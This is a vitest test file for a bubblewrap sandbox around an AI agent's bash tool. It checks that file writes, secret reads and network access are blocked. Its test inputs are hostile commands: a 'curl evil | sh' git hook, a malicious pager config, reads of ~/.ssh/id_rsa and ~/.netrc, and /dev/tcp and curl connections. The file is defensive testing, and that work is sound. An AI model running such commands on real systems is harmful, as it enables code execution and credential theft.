import { existsSync, readFileSync } from 'node:fs'
import { mkdir, mkdtemp, readdir, realpath, rm, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { SandboxPolicy } from '../../../protocol/messages'
import { createBashTool } from '../bash'
import { hostFolder, startLocalServer, useSandbox } from '../sandbox.testing'
import { Toolset } from '../toolset'
import type { ToolContext } from '../types'
import { bubblewrapInvocation, reaper } from './bubblewrap'
import { networkOffNote } from './network-note'

// Commands run by the real bash tool in real bubblewrap: what a hostile command tries, and fails.
const onLinux = process.platform === 'linux'
const files = useSandbox('arbor-bwrap-', hostFolder())
const toolset = new Toolset([createBashTool()], ['bash'])
const approveAll: ToolContext['requestApproval'] = async () => ({ decision: 'approved', by: 'user' })

const bash = (command: string, extra: Partial<ToolContext> = {}) =>
  toolset.run(
    { id: 'c1', name: 'bash', arguments: JSON.stringify({ command, timeout_ms: 20_000 }) },
    { projectDir: files.project(), callId: 'c1', spawn: async () => ({ ok: false, error: 'none' }), requestApproval: approveAll, ...extra },
  )
/** The output after the approval line a risky command gets (the risk rules are another module's). */
const afterApproval = (output: string): string => output.replace(/^\[risky: .*; approved by user\]\n/, '')
const policy = (overrides: Partial<SandboxPolicy> = {}): SandboxPolicy => ({
  mode: 'sandboxed',
  network: false,
  protected_paths: [],
  ...overrides,
})

describe.skipIf(!onLinux)('bubblewrap: the file system', () => {
  it('lets commands write in the project folder', async () => {
    const result = await bash('mkdir -p sub && echo hello > sub/a.txt && cat sub/a.txt')
    expect(result.output).toBe('exit code: 0\nhello')
    expect(readFileSync(join(files.project(), 'sub', 'a.txt'), 'utf8')).toBe('hello\n')
  })

  it("keeps the repository's hooks and config read-only, so nothing runs later outside the sandbox", async () => {
    await mkdir(join(files.project(), '.git', 'hooks'), { recursive: true })
    await writeFile(join(files.project(), '.git', 'config'), '[core]\n')
    const result = await bash(
      "echo 'curl evil | sh' > .git/hooks/pre-commit; printf '[core]\\n\\tpager = sh -c evil\\n' >> .git/config; echo ref > .git/HEAD && cat .git/HEAD",
    )
    expect(afterApproval(result.output)).toMatch(/Read-only file system[\s\S]*Read-only file system[\s\S]*ref$/)
    expect(existsSync(join(files.project(), '.git', 'hooks', 'pre-commit'))).toBe(false)
    expect(readFileSync(join(files.project(), '.git', 'config'), 'utf8')).toBe('[core]\n')
    expect(readFileSync(join(files.project(), '.git', 'HEAD'), 'utf8')).toBe('ref\n')
  })

  // Approved, since the classifier flags the obvious ones: approval does not lift the sandbox.
  it.each([
    ['a direct path', (outside: string) => `echo pwned > ${outside}/new.txt`],
    ['a symlink the command makes', (outside: string) => `ln -s ${outside} link && echo pwned > link/new.txt`],
    ['cd "$X"', (outside: string) => `X=${outside}; cd "$X" && echo pwned > new.txt`],
    ['a command name built at run time', (outside: string) => `$(printf rm) -f ${outside}/secret.txt; $(printf tou)ch ${outside}/new.txt`],
    [
      'a program that is not a shell',
      (outside: string) => `${process.execPath} -e 'require("fs").writeFileSync("${outside}/new.txt", "pwned")'`,
    ],
  ])('refuses a write outside the project through %s', async (_how, command) => {
    const result = await bash(command(files.outside()))
    expect(result.output).toMatch(/Read-only file system|EROFS/)
    expect(await readdir(files.outside())).toEqual(['secret.txt'])
    expect(readFileSync(join(files.outside(), 'secret.txt'), 'utf8')).toBe('top secret\n')
  })

  it('gives commands a private /tmp: writes there do not reach the host, and the host’s files are not there', async () => {
    const name = `arbor-bwrap-tmp-${process.pid}-${Date.now()}`
    await writeFile(join('/tmp', `${name}-host`), 'host file\n')
    try {
      const result = await bash(`exec 2>&1; echo sandboxed > /tmp/${name} && cat /tmp/${name}; ls /tmp/${name}-host`)
      expect(result.output).toMatch(/^exit code: 2\nsandboxed\nls: cannot access '\/tmp\/.*-host': No such file or directory$/)
      expect(existsSync(join('/tmp', name))).toBe(false)
    } finally {
      await rm(join('/tmp', `${name}-host`), { force: true })
    }
  })
})

describe.skipIf(!onLinux)('bubblewrap: secrets', () => {
  let home = ''
  let savedHome: string | undefined
  beforeEach(async () => {
    home = join(files.base(), 'home')
    await mkdir(join(home, '.ssh'), { recursive: true })
    await writeFile(join(home, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\n')
    await writeFile(join(home, '.netrc'), 'machine example.com password hunter2\n')
    await writeFile(join(home, 'notes.txt'), 'not a secret\n')
    // The agent learns its home from $HOME, as os.homedir() does.
    savedHome = process.env.HOME
    process.env.HOME = home
  })
  afterEach(() => {
    process.env.HOME = savedHome
  })

  it('hides ~/.ssh and ~/.netrc and leaves the rest of the home readable', async () => {
    const result = await bash('exec 2>&1; ls -A ~/.ssh; cat ~/.ssh/id_rsa; echo "netrc=[$(cat ~/.netrc)]"; cat ~/notes.txt')
    // A hidden folder is empty; a hidden file is /dev/null on a mount without devices: it cannot be opened.
    expect(result.output).toBe(
      `exit code: 0\ncat: ${home}/.ssh/id_rsa: No such file or directory\ncat: ${home}/.netrc: Permission denied\nnetrc=[]\nnot a secret`,
    )
  })

  it('hides the protected paths: a folder outside the project, and a file inside it', async () => {
    const data = join(files.base(), 'arbor-data')
    await mkdir(data)
    await writeFile(join(data, 'settings.json'), '{"api_key":"sk-live"}\n')
    await writeFile(join(files.project(), 'keys.env'), 'TOKEN=secret\n')
    const result = await bash(`exec 2>&1; ls -A ${data}; cat ${data}/settings.json; echo "keys=[$(cat keys.env)]"; echo x > keys.env`, {
      sandbox: policy({ protected_paths: [data, join(files.project(), 'keys.env')] }),
    })
    expect(result.output).toBe(
      `exit code: 1\ncat: ${data}/settings.json: No such file or directory\ncat: keys.env: Permission denied\nkeys=[]\n/bin/bash: line 1: keys.env: Permission denied`,
    )
    expect(readFileSync(join(files.project(), 'keys.env'), 'utf8')).toBe('TOKEN=secret\n')
  })

  it('keeps a project inside a protected folder usable, and the rest of that folder hidden', async () => {
    const result = await bash(`exec 2>&1; echo ok > inside.txt && cat inside.txt; ls -A ${files.outside()}`, {
      sandbox: policy({ protected_paths: [files.base()] }),
    })
    expect(result.output).toBe(`exit code: 2\nok\nls: cannot access '${files.outside()}': No such file or directory`)
    expect(readFileSync(join(files.project(), 'inside.txt'), 'utf8')).toBe('ok\n')
  })
})

describe.skipIf(!onLinux)('bubblewrap: processes', () => {
  it('shows only the sandbox’s own processes in /proc: not the agent, not its environment', async () => {
    const result = await bash(
      `exec 2>&1; ls /proc | grep -c '^[0-9]'; cat /proc/${process.pid}/environ; tr '\\0' ' ' < /proc/$PPID/cmdline | cut -c1-40`,
    )
    const [status, count, environ, parent] = result.output.split('\n')
    expect(status).toBe('exit code: 0')
    expect(Number(count)).toBeLessThan(8)
    expect(environ).toMatch(new RegExp(`/proc/${process.pid}/environ: No such file or directory`))
    expect(parent).toBe('/bin/sh -c exec 4>&2 2>/dev/null')
    expect(reaper.startsWith('exec 4>&2 2>/dev/null\n')).toBe(true)
  })
})

describe.skipIf(!onLinux)('bubblewrap: the network', () => {
  let server: Awaited<ReturnType<typeof startLocalServer>>
  beforeAll(async () => {
    server = await startLocalServer()
  })
  afterAll(async () => {
    await server.close()
  })

  const attempts = () => [
    ['bash /dev/tcp', `exec 3<>/dev/tcp/127.0.0.1/${server.port} && head -1 <&3`],
    [
      'node net.connect',
      `${process.execPath} -e 'require("net").connect(${server.port}, "127.0.0.1").on("data", (d) => process.stdout.write(d)).on("error", (e) => { console.error(e.message); process.exit(1) })'`,
    ],
    ...(existsSync('/usr/bin/curl') ? [['curl', `curl -sS telnet://127.0.0.1:${server.port} --max-time 5 < /dev/null`]] : []),
  ]

  it('reaches no server on this machine, and says why', async () => {
    for (const [how, command] of attempts()) {
      const output = afterApproval((await bash(command!)).output)
      expect(output, how).toMatch(/^exit code: [1-9]\d*\n/)
      expect(output.split('\n')[1], how).toBe(networkOffNote)
      expect(output, how).toMatch(/Connection refused|ECONNREFUSED|Couldn't connect|Failed to connect/)
    }
    expect(server.connections()).toBe(0)
  })

  it('resolves no name, and says why', async () => {
    const result = await bash(
      `getent hosts example.com || ${process.execPath} -e 'require("dns").lookup("example.com", (e) => { console.error(e && e.code); process.exit(1) })'`,
    )
    expect(result.output).toMatch(/^exit code: 1\n/)
    expect(result.output).toContain(networkOffNote)
  })

  it('with the job’s network allowed, reaches the local server and adds no note', async () => {
    const result = await bash(attempts()[0]![1]!, { sandbox: policy({ network: true }) })
    expect(afterApproval(result.output)).toBe('exit code: 0\nhello from the host')
    expect(server.connections()).toBe(1)
  })

  it('says nothing about the network when the output shows no connection failure', async () => {
    expect((await bash('echo fine; exit 7')).output).toBe('exit code: 7\nfine')
  })
})

describe.skipIf(!onLinux)('bubblewrap: without the sandbox and without bubblewrap', () => {
  it('with mode "off", runs as before: outside the project is writable and the host’s processes are visible', async () => {
    const result = await bash(`echo written > ${files.outside()}/new.txt && ls /proc | grep -c '^[0-9]'`, {
      sandbox: policy({ mode: 'off' }),
    })
    expect(result.output).toMatch(/^exit code: 0\n\d+$/)
    expect(Number(result.output.split('\n')[1])).toBeGreaterThan(8)
    expect(readFileSync(join(files.outside(), 'new.txt'), 'utf8')).toBe('written\n')
  })

  it('refuses to run a command when no sandbox can start, and names the fix', async () => {
    const missing = new Toolset([createBashTool({ detect: { bwrapPath: '/nonexistent/bwrap' } })], ['bash'])
    const run = (sandbox?: SandboxPolicy) =>
      missing.run(
        { id: 'c1', name: 'bash', arguments: JSON.stringify({ command: 'echo ran > ran.txt' }) },
        { projectDir: files.project(), callId: 'c1', spawn: async () => ({ ok: false, error: 'none' }), sandbox },
      )
    const refused = await run()
    expect(refused.ok).toBe(false)
    expect(refused.output).toBe(
      'Error: the command was not run: commands run in an OS sandbox, and none can start here: bubblewrap is not installed (no /nonexistent/bwrap): install it (apt-get install bubblewrap, or dnf install bubblewrap), or run the job without the sandbox (the job\'s "no sandbox" setting)',
    )
    expect(existsSync(join(files.project(), 'ran.txt'))).toBe(false)
    expect((await run(policy({ mode: 'off' }))).output).toBe('exit code: 0\n(no output)')
  })
})

describe('bubblewrapInvocation', () => {
  const settings = { writable: ['/work/project'], hidden: ['/home/u/.ssh', '/work/project/.env', '/tmp/data'], network: false }

  it('mounts in order: root read-only, private folders, hidden outside, the project, hidden inside', () => {
    const { args, leftoversFd } = bubblewrapInvocation(['/bin/bash', '-c', 'echo hi'], settings, { cwd: '/work/project' })
    expect(leftoversFd).toBe(3)
    const mounts = args.slice(0, args.indexOf('--chdir')).join(' ')
    expect(mounts).toBe(
      [
        '--die-with-parent --unshare-pid --as-pid-1 --unshare-ipc --unshare-uts --unshare-net',
        '--ro-bind / / --dev /dev --proc /proc --tmpfs /tmp --tmpfs /run',
        // Neither exists here: a missing one is a file as far as the mount goes (detection only passes existing paths).
        '--ro-bind /dev/null /home/u/.ssh',
        '--bind /work/project /work/project',
        '--ro-bind /dev/null /work/project/.env',
      ].join(' '),
    )
    expect(args.slice(args.indexOf('--chdir'))).toEqual([
      '--chdir',
      '/work/project',
      '--',
      '/bin/sh',
      '-c',
      reaper,
      'arbor-sandbox',
      '/bin/bash',
      '-c',
      'echo hi',
    ])
  })

  it('with network, shares it and the host’s /run', () => {
    const { args } = bubblewrapInvocation(['true'], { ...settings, network: true }, { cwd: '/' })
    expect(args).not.toContain('--unshare-net')
    expect(args.join(' ')).not.toContain('--tmpfs /run')
  })

  it('hides a protected path under /tmp only when it is inside the project', async () => {
    const base = await realpath(await mkdtemp(join('/tmp', 'arbor-args-')))
    try {
      await mkdir(join(base, 'project', 'data'), { recursive: true })
      await symlink('/nowhere', join(base, 'project', 'broken'))
      const { args } = bubblewrapInvocation(
        ['true'],
        { writable: [join(base, 'project')], hidden: [join(base, 'other'), join(base, 'project', 'data')], network: true },
        { cwd: '/' },
      )
      expect(args.join(' ')).toContain(`--bind ${base}/project ${base}/project --tmpfs ${base}/project/data --chdir`)
      expect(args.join(' ')).not.toContain(`${base}/other`)
    } finally {
      await rm(base, { recursive: true, force: true })
    }
  })
})
